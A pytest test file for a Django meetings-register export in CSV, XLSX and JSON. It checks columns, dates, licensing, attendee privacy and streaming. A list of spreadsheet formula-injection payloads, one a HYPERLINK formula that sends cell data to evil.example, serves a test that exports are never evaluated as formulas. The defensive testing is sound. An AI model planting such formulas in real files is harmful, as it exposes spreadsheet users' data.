"""The register as files: read back by other programs than those that wrote them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import tracemalloc
import zipfile
from dataclasses import replace
from urllib.parse import quote

import openpyxl
import pytest
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext

from articles.models import Meeting
from articles.models.attendance import Leaders, Side
from articles.models.meeting import Format
from articles.register import views
from articles.register.about import About
from articles.register.json import write_json
from articles.register.rows import RegisterRow
from articles.register.tables import write_csv, write_xlsx
from liaison.search.meeting_status import Status
from liaison.text.dates import PartialDate
from liaison.text.languages import Phrase
from liaison.web.addresses import Link
from liaison.web.license import License
from liaison.web.tables import xlsx
from organizations.disclosure import Disclosure
from tests.factories import (
    AttendanceFactory,
    DelegationFactory,
    MeetingFactory,
    OrganizationFactory,
    PersonFactory,
    ReportFactory,
    TopicFactory,
)
from tests.spreadsheets import find_libreoffice, read_back

pytestmark = pytest.mark.django_db

KINDS = ("csv", "xlsx", "json")
NEW_YORK = "America/New_York"
# A cell that a spreadsheet program would work out, or might once it took something else for the end of a cell.
DANGEROUS = re.compile(r"""(^|[,;\t"])[\s"\u200f]*[=+\-@＝＋－＠]""")
EVIL = (
    *("=1+1", "+1", "-1+2", "@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)", "\t=1", " =1", "\u200f=1+1", "'=1"),
    *('"=1+1', 'a";=1+1', "a;=1+1", "a,@SUM(1)", 'a";"-1', "a\n=1+1", '=HYPERLINK("http://evil.example?"&A1)'),
)


def held(start, end="", zone=NEW_YORK, **fields):
    meeting = MeetingFactory.build(**fields)
    meeting.happens(PartialDate.parse(start), PartialDate.parse(end) if end else None, zone)
    meeting.save()
    return meeting


@pytest.fixture
def fetch(client):
    """``fetch("csv", "en", "topic=books")``: the bytes of a file."""

    def read(kind, language="en", query=""):
        response = client.get(f"/{language}/meetings/register.{kind}?{query}")
        assert response.status_code == 200
        return response.getvalue()

    return read


@pytest.fixture
def lines(fetch):
    """The meetings of the CSV, as dictionaries by column."""

    def read(language="en", query=""):
        text = fetch("csv", language, query).decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))

    return read


@pytest.fixture
def book(fetch):
    return lambda *args: openpyxl.load_workbook(io.BytesIO(fetch("xlsx", *args)))


@pytest.fixture
def whole(fetch, client):
    """The JSON, valid by the schema whose address stands in it."""

    # Imported here: it takes two seconds, which every process would spend that collects tests.
    from jsonschema import Draft202012Validator
    from jsonschema.validators import validator_for

    def read(language="en", query=""):
        found = json.loads(fetch("json", language, query))
        schema = client.get(found["$schema"].removeprefix("http://testserver")).json()
        validator_for(schema).check_schema(schema)
        assert schema["$id"] == found["$schema"]
        Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER).validate(found)
        return found

    return read


@pytest.fixture
def talk():
    """A meeting with everything that can be told of one."""
    meeting = held(
        "2020-12-18T18:00",
        "2020-12-18T19:30",
        title_en="Talk on libraries",
        title_ar="لقاء عن المكتبات",
        summary_en="One line.\nAnother.",
        outcomes_en="A first one\n\nA second one",
        place_en="Zoom",
        format=Format.VIRTUAL,
        cancelled=True,
    )
    meeting.organizers.add(OrganizationFactory(name_en="Host Council", slug="host-council"))
    meeting.topics.add(TopicFactory(name_en="Libraries", slug="libraries"), TopicFactory(name_en="Books"))
    league = DelegationFactory(meeting=meeting, organization__name_en="Reading League", organization__slug="league")
    person = PersonFactory(name_en="Huda Alwarraq", honorific_en="Dr.", slug="huda")
    AttendanceFactory(delegation=league, person=person, post_en="Librarian")
    AttendanceFactory(delegation=league, post_en="Treasurer", disclosure=Disclosure.ROLE)
    DelegationFactory(meeting=meeting, side=Side.HOST, organization__name_en="The Office")
    DelegationFactory(
        meeting=meeting,
        side=Side.OBSERVER,
        organization__name_en="City Hall",
        leaders=Leaders.COUNTED,
        leader_count=3,
    )
    ReportFactory(meeting=meeting, title_en="Report on the talk", slug_en="report")
    ReportFactory(meeting=meeting, live="", slug_en="draft")
    return meeting


def test_a_line_says_all_that_may_be_known(talk, lines):
    report = talk.articles.get(slug_en="report")
    (line,) = lines()
    assert line == {
        "Number": str(talk.pk),
        "Date": "2020-12-18",
        "Start time": "18:00",
        "Last day": "2020-12-18",
        "End time": "19:30",
        "Time zone": NEW_YORK,
        "Title": "Talk on libraries",
        "Format": "Virtual",
        "Place": "Zoom",
        "Called off": "Yes",
        "Organized by": "Host Council",
        "Host side": "The Office",
        "Guest organizations": "Reading League",
        "Observers": "City Hall",
        "Leaders": "City Hall: 3",
        "People": "Dr. Huda Alwarraq (Librarian – Reading League)",
        "Shown by post": "Treasurer (Reading League)",
        "Topics": "Books | Libraries",
        "Summary": "One line. Another.",
        "Outcomes": "A first one | A second one",
        "Reports": f"http://testserver/en/news/{report.pk}/report/",
        "Page in Arabic": f"http://testserver/ar/meetings/{talk.pk}/{quote(talk.slug_ar)}/",
        "Page in English": f"http://testserver/en/meetings/{talk.pk}/talk-on-libraries/",
        "Changed": talk.updated_at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "Status": "Called off",
    }


def test_the_json_says_the_same_in_terms_of_popolo(talk, whole):
    found = whole()
    (event,) = found["events"]
    assert found["count"] == 1
    assert (event["start_date"], event["end_date"]) == ("2020-12-18T18:00-05:00", "2020-12-18T19:30-05:00")
    assert (event["name"], event["status"], event["format"]) == ("Talk on libraries", "cancelled", "virtual")
    assert event["description"] == "One line.\nAnother."
    assert event["outcomes"] == ["A first one", "A second one"]
    assert [organizer["id"] for organizer in event["organizers"]] == ["host-council"]
    (attendee,) = event["attendees"]
    assert attendee == {
        "id": "huda",
        "name": "Huda Alwarraq",
        "honorific_prefix": "Dr.",
        "links": [{"url": "http://testserver/en/people/huda/"}],
    }
    host, guest, observer = event["delegations"]
    assert [each["side"] for each in (host, guest, observer)] == ["host", "guest", "observer"]
    assert guest["memberships"] == [
        {"person_id": "huda", "organization_id": "league", "role": "Librarian"},
        {"organization_id": "league", "role": "Treasurer"},
    ]
    assert (observer["leaders"], observer["leader_count"]) == ("counted", 3)
    assert [source["note"] for source in event["sources"]] == ["Report on the talk"]
    assert [link["language"] for link in event["links"]] == ["ar", "en"]


def test_the_json_knows_a_meeting_by_the_id_that_calendars_do(talk, whole, client):
    (event,) = whole("ar")["events"]
    assert f"UID:{event['identifiers'][0]['identifier']}" in client.get("/en/meetings/calendar.ics").text


@pytest.mark.parametrize(
    ("start", "day", "exact"),
    [
        ("2020", "2020", "2020"),
        ("2020-12", "2020-12", "2020-12"),
        ("2020-12-18", dt.datetime(2020, 12, 18), "2020-12-18"),
        ("2021-07-01T09:05", dt.datetime(2021, 7, 1), "2021-07-01T09:05-04:00"),
    ],
)
def test_a_date_is_told_as_far_as_it_is_known(lines, book, whole, start, day, exact):
    held(start)
    assert lines()[0]["Date"] == start[:10]
    sheet = book().worksheets[0]
    assert sheet["B2"].value == day
    assert sheet["C2"].value == (dt.time(9, 5) if "T" in start else None)
    assert whole()["events"][0]["start_date"] == exact


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_is_worked_out(text, fetch, book):
    meeting = MeetingFactory(title_en=text, place_en=text, summary_en=text, outcomes_en=f"{text}\n{text}")
    AttendanceFactory(
        delegation=DelegationFactory(meeting=meeting, organization__name_en=text), person__name_en=text, post_en=text
    )
    meeting.topics.add(TopicFactory(name_en=text))
    file = fetch("csv").decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(file, newline="")) for cell in line]
    assert [cell for cell in cells if DANGEROUS.search(cell)] == []
    # Every cell is quoted, and a meeting is a line.
    assert all(re.fullmatch(r'("([^"]|"")*",?)+', line) for line in file.split("\r\n")[:-1])
    assert "\n" not in file.replace("\r\n", "")
    assert {cell.data_type for row in book().worksheets[0] for cell in row} <= {"s", "n", "d"}


def test_csv_begins_with_what_tells_its_letters(fetch):
    MeetingFactory(title_ar="لقاء «المكتبة»")
    file = fetch("csv", "ar")
    assert file.startswith(b"\xef\xbb\xbf")
    assert "لقاء «المكتبة»" in file.decode("utf-8-sig")


@pytest.mark.parametrize(("language", "rtl"), [("ar", True), ("en", False)])
def test_the_workbook_is_made_to_be_read(talk, book, language, rtl):
    found = book(language)
    table, about = found.worksheets
    assert [bool(sheet.sheet_view.rightToLeft) for sheet in found.worksheets] == [rtl, rtl]
    assert table.freeze_panes == "A2"
    assert table.auto_filter.ref == "A1:Y2"
    assert table.column_dimensions["G"].width > 40
    assert table["W2"].hyperlink.target.startswith(f"http://testserver/en/meetings/{talk.pk}/")
    told = {row[0].value: row[1].value for row in about.rows}
    assert "CC BY 4.0" in told.values()
    assert dt.date.today().isoformat()[:4] in " ".join(map(str, told.values()))
    assert f"http://testserver/{language}/meetings/" in told.values()


def test_files_say_whose_they_are_and_under_what_license(client, whole, book):
    MeetingFactory(format=Format.HYBRID)
    found = whole("en", "format=hybrid")
    assert found["license"] == "CC BY 4.0"
    assert found["publisher"]["name"] == "Communities Office"
    assert found["source"] == "http://testserver/en/meetings/?format=hybrid"
    assert found["filters"] == "Hybrid"
    assert [
        row[1].value for row in book("en", "format=hybrid").worksheets[1].rows if row[0].value == "Filters applied"
    ] == ["Hybrid"]
    for kind in KINDS:
        response = client.get(f"/en/meetings/register.{kind}")
        assert '<https://creativecommons.org/licenses/by/4.0/>; rel="license"' in response["Link"]
        assert response["X-Robots-Tag"] == "noindex"
        assert response["Access-Control-Allow-Origin"] == "*"
        assert re.fullmatch(
            rf'attachment; filename="meetings-en-\d{{4}}-\d\d-\d\d\.{kind}"', response["Content-Disposition"]
        )


@override_settings(DATA_LICENSE="", DATA_LICENSE_URL="")
def test_without_a_license_none_is_stated(client, whole, book):
    assert "license" not in whole()
    assert "License" not in [row[0].value for row in book().worksheets[1].rows]
    assert "Link" not in client.get("/en/meetings/register.csv").headers
    assert "License" not in client.get("/en/meetings/figures/").text


def test_the_newest_comes_first(lines):
    held("2021-05-05", title_en="Older")
    held("2023-05-05", title_en="Newer")
    held("2022", title_en="Between")
    assert [line["Title"] for line in lines()] == ["Newer", "Between", "Older"]


@pytest.mark.parametrize(
    "query", ["format=nonsense", "organization=nobody", "from=yesterday", "year=12345678901234567890"]
)
def test_a_filter_that_is_not_understood_finds_nothing_and_says_so(lines, whole, book, query):
    MeetingFactory()
    assert lines("en", query) == []
    found = whole("en", query)
    assert found["events"] == []
    assert found["count"] == 0
    assert found["notes"]
    table, about = book("en", query).worksheets
    assert table.max_row == 1
    assert found["notes"][0] in [row[1].value for row in about.rows]


def test_a_meeting_is_in_the_files_of_the_languages_it_is_live_in(lines, whole):
    meeting = MeetingFactory(title_en="", slug_en="")
    MeetingFactory(public=False)
    ReportFactory(meeting=meeting, live="en")
    assert lines("en") == []
    (line,) = lines("ar")
    assert line["العنوان"] == meeting.title_ar
    (event,) = whole("ar")["events"]
    assert [link["language"] for link in event["links"]] == ["ar"]
    # The report is out in English alone.
    assert "sources" not in event


def test_names_lend_themselves_to_the_other_language_and_texts_do_not(whole):
    meeting = MeetingFactory(summary_ar="الموجز بالعربية", outcomes_ar="نتيجة")
    DelegationFactory(meeting=meeting, organization__name_ar="رابطة القراءة", organization__name_en="")
    (event,) = whole("en")["events"]
    assert event["delegations"][0]["organization"]["name"] == "رابطة القراءة"
    assert {"description", "outcomes"}.isdisjoint(event)


@pytest.mark.parametrize(
    ("level", "protected"),
    [
        *((level, False) for level in Disclosure.values if level != Disclosure.NAMED),
        *((level, True) for level in Disclosure.values),
    ],
)
def test_whom_the_pages_do_not_name_no_file_does(fetch, level, protected):
    attendance = AttendanceFactory(
        disclosure=level,
        delegation__note="Secret note",
        delegation__organization__name_en="Reading League",
        person__name_ar="هدى الورّاق",
        person__name_en="Huda Alwarraq",
        person__slug="huda-alwarraq",
        person__protected=protected,
        post_en="Librarian",
    )
    ReportFactory(meeting=attendance.meeting).people.add(attendance.person)
    everything = "".join(_text(kind, fetch(kind, language)) for kind in KINDS for language in ("ar", "en"))
    for secret in ("هدى", "Huda", "Alwarraq", "huda-alwarraq", "Secret note"):
        assert secret not in everything
    assert ("Librarian" in everything) == (level == Disclosure.ROLE)
    assert ("Reading League" in everything) == (level != Disclosure.UNDISCLOSED)


def _text(kind, file):
    if kind != "xlsx":
        return file.decode()
    with zipfile.ZipFile(io.BytesIO(file)) as parts:
        return "".join(parts.read(name).decode() for name in parts.namelist())


@pytest.mark.parametrize("kind", KINDS)
def test_who_has_the_same_file_already_is_told_so(talk, client, kind):
    address = f"/ar/meetings/register.{kind}"
    first = client.get(address)
    assert client.get(address, headers={"if-none-match": first["ETag"]}).status_code == 304
    Meeting.objects.filter(pk=talk.pk).update(place_ar="دمشق")
    assert client.get(address, headers={"if-none-match": first["ETag"]}).status_code == 200


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_a_file_says_the_same_whether_it_is_made_first_or_sent_meanwhile(talk, client, fetch, monkeypatch, kind):
    before = fetch(kind)
    monkeypatch.setattr(views, "SHORT", 0)
    response = client.get(f"/en/meetings/register.{kind}")
    assert "Content-Length" not in response
    assert response.getvalue() == before


@pytest.mark.parametrize("kind", KINDS)
def test_meetings_are_read_a_batch_at_a_time(client, monkeypatch, kind):
    monkeypatch.setattr(views, "BATCH", 2)
    for _ in range(2):
        AttendanceFactory().meeting.topics.add(TopicFactory())

    def queries():
        with CaptureQueriesContext(connection) as captured:
            response = client.get(f"/en/meetings/register.{kind}")
            assert response.streaming
            response.getvalue()
        return len(captured)

    few = queries()
    for _ in range(4):
        AttendanceFactory().meeting.topics.add(TopicFactory())
    # Two batches more, of eight queries each at most, whatever is in them.
    assert queries() - few <= 2 * 8


def test_one_long_file_is_made_at_a_time(client, monkeypatch):
    MeetingFactory()
    monkeypatch.setattr(views, "LONG", 0)
    assert client.get("/en/meetings/register.csv").getvalue()
    with views._press:
        response = client.get("/en/meetings/register.csv")
    assert response.status_code == 503
    assert response["Retry-After"] == "10"
    assert response["Cache-Control"] == "no-store"
    assert client.get("/en/meetings/register.csv").getvalue()


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_who_does_not_want_a_file_keeps_no_other_waiting(client, monkeypatch, kind):
    MeetingFactory()
    monkeypatch.setattr(views, "SHORT", 0)
    monkeypatch.setattr(views, "LONG", 0)
    address = f"/en/meetings/register.{kind}"
    assert client.head(address).getvalue() == b""
    # It goes away before the first byte.
    client.get(address).close()
    assert not views._press.locked()


def test_a_schema_is_the_same_whoever_asks(client):
    response = client.get("/meetings/register.schema.json")
    assert response["Content-Type"] == "application/schema+json"
    assert response["Access-Control-Allow-Origin"] == "*"
    schema = response.json()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"] == "http://testserver/meetings/register.schema.json"


def test_libreoffice_reads_what_was_meant(talk, fetch, tmp_path):
    program = find_libreoffice() or pytest.skip(
        "there is no LibreOffice here (Debian: apt-get install libreoffice-calc-nogui)"
    )
    held("2019-03", title_en="=1+1", title_ar="@SUM(1)", summary_en='a";=2+2')
    files = [tmp_path / f"{language}.{kind}" for language in ("ar", "en") for kind in ("csv", "xlsx")]
    for file in files:
        file.write_bytes(fetch(file.suffix[1:], file.stem))
    found = read_back(program, tmp_path / "read", *files)
    assert len(found) == 6
    for sheet in ("en.csv en", "en.xlsx Meetings"):
        head, newer, older = found[sheet]
        assert head[:2] == ["Number", "Date"]
        assert [newer[nth] for nth in (0, 1, 3, 5, 6)] == [
            str(talk.pk),
            "2020-12-18",
            "2020-12-18",
            NEW_YORK,
            "Talk on libraries",
        ]
        # Of a CSV the program takes times for times, and writes them in its own way.
        assert newer[2] in ("18:00", "06:00:00 PM")
        assert older[1] == "2019-03"
        # Nothing was worked out.
        assert older[6].lstrip("'") == "=1+1"
    ((arabic, *_rest),) = [rows[2:] for name, rows in found.items() if name.startswith("ar.csv")]
    assert arabic[6] == "'@SUM(1)"
    assert ["Number of meetings", "2"] in found["en.xlsx About"]


_ROW = RegisterRow(
    id=1,
    title="لقاء عن المكتبات",
    start=PartialDate.parse("2020-12-18"),
    end=None,
    starts="2020-12-18",
    ends="",
    time_zone="",
    format=Format.VIRTUAL,
    place="Zoom",
    called_off=False,
    status=Status.HELD,
    organizers=(Link(Phrase("رابطة القراءة", "ar"), "/ar/organizations/league/"),),
    sides=(),
    topics=(),
    summary="نص " * 200,
    outcomes=(),
    reports=(),
    pages={"ar": "/ar/meetings/1/x/"},
    changed=dt.datetime(2024, 1, 1, tzinfo=dt.UTC),
)
_ABOUT = About(
    title="سجل",
    publisher="مكتب",
    office="6f1c7a53-0f0e-4b38-9a0e-0f1e6a6d3c11",
    language="ar",
    license=License("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/"),
    site="http://testserver",
    source="http://testserver/ar/meetings/",
    filters="",
    notes=(),
    extracted=dt.date(2026, 1, 1),
)


@pytest.mark.parametrize(
    "write",
    [write_csv, write_xlsx, lambda file, rows, about: write_json(file, rows, about, "https://x.example/schema")],
)
def test_memory_does_not_grow_with_the_number_of_meetings(tmp_path, monkeypatch, write):
    monkeypatch.setattr(xlsx, "LINKED_ROWS", 50)

    def peak(count):
        with (tmp_path / "file").open("w+b") as file:
            tracemalloc.start()
            write(file, (replace(_ROW, id=number) for number in range(1, count + 1)), _ABOUT)
            highest = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        return highest

    peak(10)
    # Files are read and packed in pieces, which both are longer than.
    assert peak(1500) < peak(500) + 200_000
